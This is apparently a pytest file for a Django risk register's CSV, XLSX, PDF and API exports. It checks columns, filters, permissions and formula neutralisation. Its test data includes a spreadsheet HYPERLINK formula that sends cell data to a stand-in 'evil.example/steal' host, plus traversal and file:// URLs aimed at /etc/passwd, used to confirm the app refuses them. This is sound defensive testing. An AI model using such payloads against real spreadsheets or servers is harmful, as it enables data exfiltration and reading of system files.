"""Exports: CSV/XLSX columns and values, inert formulas, the PDF's text; they follow filters and permissions."""

import csv
import datetime
import io
import logging

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from apps.core.pdf import BASE_URL, StaticFilesFetcher, render_pdf
from apps.risks import services
from apps.risks.exports import HEADERS
from tests.factories import ProjectFactory

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'


@pytest.fixture
def register(project, team, make_risk):
    """Two risks on the project (one titled with a formula), and one on a project the compliance officer cannot see."""
    make_risk(
        title="Upstream schema change breaks ingestion",
        impact=4,
        likelihood=3,
        residual_impact=4,
        residual_likelihood=1,
        mitigation="Data contract + schema diff alerts",
    )
    make_risk(
        title=FORMULA,
        impact=5,
        likelihood=4,
        residual_impact=4,
        residual_likelihood=3,
        owner=None,
        mitigation="+1 more control; @ops to follow",
    )
    hidden = ProjectFactory(name="Secret Programme")
    services.risk_create(
        actor=hidden.owner, project=hidden, title="Hidden risk", category="privacy", impact=5, likelihood=5
    )
    return project


def export(client, user, fmt, **params):
    client.force_login(user)
    response = client.get(f"/risks/export/{fmt}/", params)
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_has_the_register_columns_and_values(client, register, team):
    rows = csv_rows(export(client, team["compliance"], "csv", sort="code"))
    assert list(rows[0].keys()) == HEADERS
    first = rows[0]
    assert (first["Project"], first["ID"], first["Title"]) == (
        register.name,
        "R-001",
        "Upstream schema change breaks ingestion",
    )
    assert (first["Impact"], first["Likelihood"], first["Inherent score"], first["Inherent band"]) == (
        "4",
        "3",
        "12",
        "High",
    )
    assert (first["Residual score"], first["Residual band"], first["Owner"]) == (
        "4",
        "Low",
        team["engineer"].display_name,
    )
    assert (first["Status"], first["Category"], first["Review frequency"]) == ("Open", "Dependency fragility", "Weekly")


def test_exports_follow_the_filters_and_the_users_permissions(client, register, team, auditor):
    assert [row["ID"] for row in csv_rows(export(client, team["compliance"], "csv"))] == ["R-002", "R-001"]
    assert [row["Title"] for row in csv_rows(export(client, team["compliance"], "csv", residual_band="low"))] == [
        "Upstream schema change breaks ingestion"
    ]
    assert "Hidden risk" not in {row["Title"] for row in csv_rows(export(client, team["compliance"], "csv"))}
    assert "Hidden risk" in {row["Title"] for row in csv_rows(export(client, auditor, "csv"))}


def test_a_formula_title_is_exported_inert_in_csv_and_xlsx(client, register, team):
    row = next(r for r in csv_rows(export(client, team["compliance"], "csv")) if "HYPERLINK" in r["Title"])
    assert row["Title"] == "'" + FORMULA
    assert row["Mitigation"] == "'+1 more control; @ops to follow"
    workbook = load_workbook(io.BytesIO(export(client, team["compliance"], "xlsx").content))
    sheet = workbook["Risks"]
    titles = [cell for cell in sheet["D"] if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in titles] == [("'" + FORMULA, "s")]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_export_has_typed_columns_a_heat_map_sheet_and_the_filters(client, register, team):
    response = export(client, team["compliance"], "xlsx", sort="code", status="live")
    assert response["Content-Disposition"].startswith('attachment; filename="risk-register-portfolio-')
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Risks", "Heat maps", "Export"]
    rows = list(workbook["Risks"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    first = dict(zip(HEADERS, rows[1], strict=True))
    assert (first["ID"], first["Inherent score"], first["Residual score"], first["Residual band"]) == (
        "R-001",
        12,
        4,
        "Low",
    )
    # Never reviewed yet: no last review, and the next one a week (weekly frequency) after it was recorded.
    assert first["Last reviewed"] is None
    assert first["Next review"].date() == timezone.localdate() + datetime.timedelta(days=7)
    about = dict(workbook["Export"].iter_rows(values_only=True))
    assert about["Risks"] == 2 and about["Filter: Status"] == "Live (open, mitigating, accepted)"


def test_pdf_export_text_contains_the_risk_codes_and_heat_maps(client, register, team, caplog):
    caplog.set_level(logging.WARNING, logger="weasyprint")
    response = export(client, team["compliance"], "pdf", project=register.slug)
    assert response["Content-Type"] == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "R-001" in text and "R-002" in text
    # Each row keeps the title and the mitigation, on the ID's line and the sub-line.
    assert "R-001 · Upstream schema change breaks ingestion" in text
    assert "Mitigation: Data contract + schema diff alerts" in text and "Mitigation: +1 more control; @ops" in text
    assert "Inherent risk (before mitigation)" in text and "Residual risk (after mitigation)" in text
    assert f"{register.name} · Risk register · exported" in text  # the running header
    assert "Page 1 of" in text
    assert "Hidden risk" not in text
    assert [record for record in caplog.records if record.levelno >= logging.WARNING] == []


def test_render_pdf_reads_fonts_from_static_and_logs_no_error(caplog, db):
    caplog.set_level(logging.DEBUG, logger="weasyprint")
    pdf = render_pdf("pdf/base.html", {"pdf_title": "Check", "pdf_scope": "Helper"})
    assert pdf.startswith(b"%PDF-")
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert any("/static/css/pdf.css" in r.getMessage() for r in caplog.records)
    page = PdfReader(io.BytesIO(pdf)).pages[0]
    fonts = {font.get_object()["/BaseFont"] for font in page["/Resources"]["/Font"].values()}
    assert all(str(name).endswith("+Inter") for name in fonts), fonts  # the shipped font, embedded


def test_pdf_fetcher_reads_static_files_from_disk_and_refuses_everything_else(db):
    fetcher = StaticFilesFetcher()
    assert b"@page" in fetcher.fetch(f"{BASE_URL}static/css/pdf.css").read()
    for url in (
        "https://example.com/tracker.png",
        f"{BASE_URL}media/evidence.pdf",
        f"{BASE_URL}static/../../../etc/passwd",
        "file:///etc/passwd",
    ):
        with pytest.raises((ValueError, FileNotFoundError)):
            fetcher.fetch(url)


def test_api_export_follows_filters_and_answers_files(api_client, register, team):
    api_client.force_authenticate(team["compliance"])
    response = api_client.get("/api/v1/risks/export/csv/", {"residual_band": "high"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert [row["ID"] for row in csv_rows(response)] == ["R-002"]
    assert api_client.get("/api/v1/risks/export/pdf/").content.startswith(b"%PDF-")
    assert api_client.get("/api/v1/risks/export/docx/").status_code == 404
